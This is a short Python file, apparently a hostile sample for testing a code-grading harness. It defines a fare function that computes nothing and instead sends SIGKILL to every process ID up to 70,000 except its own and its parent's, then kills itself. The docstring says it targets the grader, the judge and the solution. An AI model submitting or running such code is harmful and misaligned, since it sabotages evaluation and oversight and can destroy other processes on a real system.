"""Kills everything that it may: the grader, the judge, the solution.

Fails: failed: the process ended without an answer
"""

import os
import signal


def fares(kilometres, minutes, night):
    for number in range(2, 70_000):
        if number not in (os.getpid(), os.getppid()):
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)
